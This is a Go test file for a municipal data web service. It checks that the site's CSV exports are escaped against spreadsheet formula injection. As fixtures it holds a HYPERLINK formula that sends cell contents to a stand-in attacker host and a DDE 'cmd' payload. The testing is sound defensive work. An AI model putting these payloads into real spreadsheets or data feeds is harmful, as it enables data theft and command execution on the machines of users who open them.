package web

import (
	"encoding/csv"
	"net/http"
	"regexp"
	"strings"
	"testing"

	"ee/kovmon/auth"
)

// hostileName is a municipality name that is a formula (issue 15, point 2).
const hostileName = `=HYPERLINK("http://evil.example/?leak="&A1,"Tallinn")`

// TestCSVCellsAreNotFormulas loads a municipality whose name is a formula and a
// survey answer whose question id is one, and reads every CSV the site offers: no
// cell begins with a formula character unless it is a number, the name is there as
// text ('=HYPERLINK…), and negative numbers are still numbers.
func TestCSVCellsAreNotFormulas(t *testing.T) {
	f := newFixture(t, false, nil)
	units := "ehak_code,name,type,county_code,county_name,valid_from,valid_to,population\n9990," + csvQuote(hostileName) + ",vald,0037,Harju maakond,2017-10-22,,100\n"
	if status, body, _ := f.do(t, auth.Admin, "POST", "/api/ingest/municipalities?name=units.csv", strings.NewReader(units)); status != http.StatusOK {
		t.Fatalf("municipalities: %d %s", status, body)
	}
	survey := "survey_id,year,ehak_code,respondent_id,submitted_at,question_id,answer\n" +
		"kov-ikt-2018,2018,0784,r1,2018-11-01T12:00:00Z,network_standard,Jah\n" +
		"kov-ikt-2018,2018,0784,r1,2018-11-01T12:00:00Z," + csvQuote("=cmd|' /C calc'!A0") + ",-1\n"
	if status, body, _ := f.do(t, auth.Admin, "POST", "/api/ingest/survey?name=survey.csv", strings.NewReader(survey)); status != http.StatusOK {
		t.Fatalf("survey: %d %s", status, body)
	}
	feedback := "feedback_id,submitted_at,ehak_code,system,service_code,score,comment\nh1,2018-03-01T10:00:00Z,9990,KOVTP,S1,4,\n"
	if status, body, _ := f.do(t, auth.Admin, "POST", "/api/ingest/feedback?name=hostile.csv", strings.NewReader(feedback)); status != http.StatusOK {
		t.Fatalf("feedback: %d %s", status, body)
	}
	sawName := false
	for _, target := range []string{
		"/extract.csv?year=2018", "/api/indicators?year=2018&format=csv", "/api/indicators?format=csv&ehak=9990",
		"/coverage.csv", "/api/surveys/responses?year=2018&format=csv",
		"/api/surveys/responses?year=2018&format=nonresponse", "/api/surveys/responses?year=2018&format=distribution",
	} {
		status, body, _ := f.do(t, auth.Admin, "GET", target, nil)
		if status != http.StatusOK {
			t.Errorf("%s: %d %.200s", target, status, body)
			continue
		}
		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil {
			t.Errorf("%s: %v", target, err)
			continue
		}
		for i, row := range rows {
			for j, cell := range row {
				if formulaLike(cell) {
					t.Errorf("%s row %d cell %d is a formula: %q", target, i+1, j+1, cell)
				}
				if cell == "'"+hostileName {
					sawName = true
				}
			}
		}
	}
	if !sawName {
		t.Error("the hostile name is in no CSV as text: the test did not reach it")
	}
}

var plainNumber = regexp.MustCompile(`^[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?$`)

// formulaLike: a cell a spreadsheet would read as a formula.
func formulaLike(cell string) bool {
	return cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !plainNumber.MatchString(cell)
}

func csvQuote(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }
